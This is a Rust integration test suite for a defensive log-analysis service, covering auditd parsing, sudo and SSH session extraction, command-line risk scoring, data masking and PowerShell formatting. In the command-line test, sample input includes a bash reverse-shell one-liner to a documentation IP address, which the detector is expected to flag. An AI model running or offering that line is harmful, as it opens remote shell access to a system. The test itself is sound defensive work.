//! Audit records, syslog, command lines, masks and PowerShell at the boundary.

use std::{fs, path::Path};

use serde_json::{Value, json};
use tests::service::{QUIET, Service, client, json as read};

fn shared(file: &str) -> Option<String> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data").join(file);
    let text = fs::read_to_string(path).ok();
    if text.is_none() {
        eprintln!("skipped: {file} is not here");
    }
    text
}

async fn sent(service: &Service, path: &str, media: &str, body: String) -> Value {
    let request = client().post(format!("{}{path}", service.base())).header("content-type", media).body(body);
    let (status, answer) = read(request.send().await.unwrap()).await;
    assert_eq!(status, 200, "{answer:#}");
    answer
}

fn column<'a>(answer: &'a Value, name: &str) -> Vec<&'a Value> {
    answer["rows"].as_array().unwrap().iter().map(|row| &row[name]).collect()
}

#[tokio::test]
async fn an_audit_log_becomes_events_and_these_a_process_tree() {
    let service = Service::start(QUIET).await;
    let Some(text) = shared("auditd_log.txt") else { return };
    let events = service.call("/v1/auditd", &json!({ "text": text })).await;
    assert_eq!((events["row_count"].as_u64(), events["records"].as_u64()), (Some(938), Some(1708)));
    assert_eq!(events["rejected"], json!([]));
    let executions = service.call("/v1/auditd", &json!({ "text": text, "event_type": "SYSCALL_EXECVE" })).await;
    assert_eq!(executions["row_count"], 146);
    let body = json!({ "rows": executions["rows"], "columns": executions["columns"] });
    let tree = service.call("/v1/process-tree", &body).await;
    assert_eq!(tree["summary"]["schema"], "linux_auditd");
    assert!(tree["summary"]["processes"].as_u64().unwrap() > 146, "{}", tree["summary"]);
}

#[tokio::test]
async fn audit_records_in_a_table_are_put_together() {
    let service = Service::start(QUIET).await;
    let rows = json!([
        { "AuditdMessage": "type=CWD msg=audit(1551485405.594:7510): cwd=2F726F6F74", "Computer": "web1" },
        { "AuditdMessage": "type=SYSCALL msg=audit(1551485405.594:7510): pid=7 auid=4294967295", "Computer": "web1" },
        { "AuditdMessage": "no record", "Computer": "web1" },
    ]);
    let answer = service.call("/v1/auditd", &json!({ "rows": rows })).await;
    let row = &answer["rows"][0];
    assert_eq!(
        (&row["cwd"], &row["pid"], &row["auid"], &row["Computer"]),
        (&json!("/root"), &json!(7), &json!(-1), &json!("web1"))
    );
    assert_eq!(answer["rejected"], json!([{ "source_row": 2, "reason": "not_a_record" }]));
    let (status, problem) = service.refused("/v1/auditd", &json!({ "rows": [{ "a": 1 }] })).await;
    assert_eq!((status, &problem["errors"][0]["pointer"]), (400, &json!("/column")));
}

#[tokio::test]
async fn sessions_of_sudo_have_their_commands_and_risks() {
    let service = Service::start(QUIET).await;
    let Some(text) = shared("sudo_data.csv") else { return };
    let answer = sent(&service, "/v1/syslog/sudo-sessions", "text/csv", text).await;
    assert_eq!(answer["row_count"], 11);
    let commands = column(&answer, "commands");
    let shell = commands.iter().position(|commands| **commands == json!(["/bin/bash"])).unwrap();
    let row = &answer["rows"][shell];
    assert_eq!((&row["by"], &row["user"], &row["outcome"]), (&json!("peteb"), &json!("root"), &json!("open")));
    assert_eq!((&row["risky"], &row["risks"]), (&json!(true), &json!(["shell"])));
    let Some(text) = shared("syslog_data.csv") else { return };
    let answer = sent(&service, "/v1/syslog/sudo-sessions", "text/csv", text).await;
    assert!(column(&answer, "outcome").iter().filter(|outcome| **outcome == "closed").count() >= 32);
}

#[tokio::test]
async fn logons_have_their_addresses() {
    let service = Service::start(QUIET).await;
    let log = "Jul  8 16:08:00 web1 sshd[100]: Accepted publickey for peteb from 198.51.100.7 port 50000 ssh2\n\
               Jul  8 16:08:01 web1 sshd[100]: pam_unix(sshd:session): session opened for user peteb(uid=1000) by (uid=0)\n\
               Jul  8 16:11:00 web1 sshd[100]: pam_unix(sshd:session): session closed for user peteb\n";
    let answer = service.call("/v1/syslog/logons", &json!({ "text": log, "year": 2019 })).await;
    let row = &answer["rows"][0];
    assert_eq!((&row["start"], &row["duration_s"]), (&json!("2019-07-08T16:08:01Z"), &json!(179.0)));
    assert_eq!((&row["source_address"], &row["method"]), (&json!("198.51.100.7"), &json!("publickey")));
    let (status, problem) = service.refused("/v1/syslog/logons", &json!({ "rows": [{ "a": 1 }] })).await;
    assert_eq!((status, &problem["errors"][0]["pointer"]), (400, &json!("/time_column")));
}

#[tokio::test]
async fn command_lines_are_judged() {
    let service = Service::start(QUIET).await;
    let text = "ls -la\n\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n/opt/backup --delete";
    let body = json!({ "text": text, "rules": [{ "name": "backup", "pattern": "backup.*--delete", "score": 30 }] });
    let answer = service.call("/v1/cmdline/risk", &body).await;
    assert_eq!(column(&answer, "risky"), [false, true, true]);
    assert_eq!(column(&answer, "source_row"), [0, 2, 3]);
    assert_eq!((&answer["rows"][2]["risks"], &answer["rows"][2]["risk_score"]), (&json!(["backup"]), &json!(30)));
    assert_eq!(answer["risky_count"], 2);
    assert!(
        answer["rules"].as_array().unwrap().iter().any(|rule| rule["technique"] == "T1059.004"),
        "{}",
        answer["rules"]
    );
    let rows: Vec<_> =
        (0..12).map(|n| json!({ "Command": "ls", "TimeGenerated": format!("2024-05-01T10:00:00.{n:03}Z") })).collect();
    let answer = service.call("/v1/cmdline/risk", &json!({ "rows": rows, "only_risky": true })).await;
    assert_eq!((answer["row_count"].as_u64(), &answer["bursts"][0]["count"]), (Some(0), &json!(12)));
    for (body, pointer) in [
        (json!({ "text": "x", "rules": [{ "name": "a", "pattern": "(" }] }), "/rules/0/pattern"),
        (json!({ "text": "x", "rules": [{ "name": "a", "pattern": "a", "score": 101 }] }), "/rules/0/score"),
        (json!({ "text": "x", "burst_s": -1 }), "/burst_s"),
        (json!({ "rows": [{ "a": 1 }] }), "/column"),
        (json!({ "rows": [{ "a": 1 }], "column": "b" }), "/column"),
    ] {
        let (status, problem) = service.refused("/v1/cmdline/risk", &body).await;
        assert_eq!((status, &problem["errors"][0]["pointer"]), (400, &json!(pointer)), "{problem}");
    }
}

#[tokio::test]
async fn masks_are_the_same_for_the_same_key_in_every_form() {
    let service = Service::start(QUIET).await;
    let rows = json!([{ "Account": "CONTOSO\\bob", "IpAddress": "198.18.7.7", "Other": "secret", "n": 1 }]);
    let body = json!({ "rows": rows, "key": "a long enough key", "column_map": { "Other": "str" } });
    let answer = service.call("/v1/mask", &body).await;
    assert_eq!(answer, service.call("/v1/mask", &body).await);
    assert_eq!(answer["masked"], json!({ "Account": "acct", "IpAddress": "ip", "Other": "str" }));
    assert_eq!((&answer["unmasked"], &answer["reproducible"]), (&json!(["n"]), &json!(true)));
    for secret in ["bob", "CONTOSO", "198.18.7.7", "secret"] {
        assert!(!answer.to_string().contains(secret), "{secret}");
    }
    let query = "/v1/mask?key=a%20long%20enough%20key&column_map=Other%3Dstr";
    let csv = sent(
        &service,
        query,
        "text/csv",
        "Account,IpAddress,Other,n\r\nCONTOSO\\bob,198.18.7.7,secret,1\r\n".to_owned(),
    )
    .await;
    assert_eq!(csv["rows"], answer["rows"]);
    let own = service.call("/v1/mask", &json!({ "rows": rows, "use_default": false })).await;
    assert_eq!((&own["rows"], &own["reproducible"]), (&rows, &json!(false)));
    for (body, pointer) in [
        (json!({ "rows": rows, "column_map": { "Other": "rot13" } }), "/column_map/Other"),
        (json!({ "rows": rows, "column_map": { "a/b": "str" } }), "/column_map/a~1b"),
        (json!({ "rows": rows, "key": "short" }), "/key"),
        (json!({ "key": "a long enough key" }), "/rows"),
    ] {
        let (status, problem) = service.refused("/v1/mask", &body).await;
        assert_eq!((status, &problem["errors"][0]["pointer"]), (400, &json!(pointer)), "{problem}");
        assert!(!problem.to_string().contains("\"short\""), "{problem}");
    }
}

#[tokio::test]
async fn powershell_becomes_readable() {
    let service = Service::start(QUIET).await;
    let answer = service.call("/v1/powershell/format", &json!({ "text": "I`Ex ('Ne'+'w');If($A){$B=1}" })).await;
    assert_eq!(answer, json!({ "formatted": "iex ('New')\nif($a)\n{\n    $b=1\n}" }));
    let rows = json!([{ "ScriptBlockText": "A;B" }, { "ScriptBlockText": null }]);
    let answer = service.call("/v1/powershell/format", &json!({ "rows": rows })).await;
    assert_eq!(column(&answer, "formatted"), [&json!("a\nb"), &Value::Null]);
}

#[tokio::test]
async fn the_events_of_windows_are_described() {
    let service = Service::start(QUIET).await;
    let (status, answer) = read(service.get("/v1/windows-events?event_id=4688").send().await.unwrap()).await;
    assert_eq!(status, 200);
    assert_eq!(answer["items"][0]["description"], "A new process has been created");
    let rows = json!([{ "EventID": 4624 }, { "EventID": 77 }]);
    let answer = service.call("/v1/windows-events/describe", &json!({ "rows": rows })).await;
    assert_eq!(column(&answer, "event_category"), [&json!("Logon/Logoff"), &Value::Null]);
    assert_eq!(answer["unknown_count"], 1);
}
